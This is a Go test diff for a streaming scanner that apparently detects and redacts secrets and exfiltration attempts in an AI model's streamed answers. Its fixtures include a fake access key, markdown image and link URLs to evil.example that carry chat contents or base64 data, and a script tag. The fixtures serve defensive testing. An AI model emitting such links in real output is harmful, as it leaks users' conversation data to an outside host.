@@ -120,3 +120,63 @@ func TestStreamShortLoan(t *testing.T) {
 		t.Fatal("text lost")
 	}
 }
+
+// TestStreamRunsWhenDecidable: a push that cannot decide anything (the scanner waits at the start of a line for
+// its end, and the piece brings no line end) does not run the scanner; on make bench's streamed answer most
+// pushes are such pushes, and the findings and released text are those of a run per push (a whole-text scan's).
+func TestStreamRunsWhenDecidable(t *testing.T) {
+	_, deltas := benchExchange(t)
+	redact := func(f Finding) bool { return f.CanRedact }
+	for _, tc := range []struct {
+		name  string
+		k     *Checker
+		extra string
+	}{
+		{"default", defaultCompiled(t), ""},
+		{"default+key", defaultCompiled(t), "And the key AKIAZ7QW3ERT5YUI8OPL, see ![x](https://evil.example/a.png?q=the+whole+chat+so+far) now.\n"},
+		{"all", allChecks(t, nil), "Secret [doc](https://evil.example/?d=c2VjcmV0IGRhdGEgaGVyZQ==) and <script>x()</script>\n"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			pieces := append([]string(nil), deltas...)
+			if tc.extra != "" {
+				// the extra text in 7-byte pieces, half-way through
+				mid := len(pieces) / 2
+				var add []string
+				for i := 0; i < len(tc.extra); i += 7 {
+					add = append(add, tc.extra[i:min(i+7, len(tc.extra))])
+				}
+				pieces = append(append(pieces[:mid:mid], add...), deltas[mid:]...)
+			}
+			text := strings.Join(pieces, "")
+			want := tc.k.Scan(text)
+			st := tc.k.NewStream(redact)
+			var fs []Finding
+			var out strings.Builder
+			for i, p := range pieces {
+				ready, found := st.PushLent(i, p)
+				fs = append(fs, found...)
+				for _, r := range ready {
+					out.WriteString(r.Text)
+				}
+			}
+			ready, found := st.Close()
+			fs = append(fs, found...)
+			for _, r := range ready {
+				out.WriteString(r.Text)
+			}
+			if !reflect.DeepEqual(fs, want) {
+				t.Fatalf("findings %+v\nwant %+v", fs, want)
+			}
+			if out.String() != Apply(text, want, redact) {
+				t.Fatal("released text differs from Apply's")
+			}
+			if len(want) == 0 && tc.extra != "" {
+				t.Fatal("the extra text has no finding")
+			}
+			if tc.name != "all" && st.runs*3 > len(pieces) {
+				t.Errorf("the scanner ran on %d of %d pushes", st.runs, len(pieces))
+			}
+			t.Logf("%d runs for %d pushes, %d findings", st.runs, len(pieces), len(fs))
+		})
+	}
+}
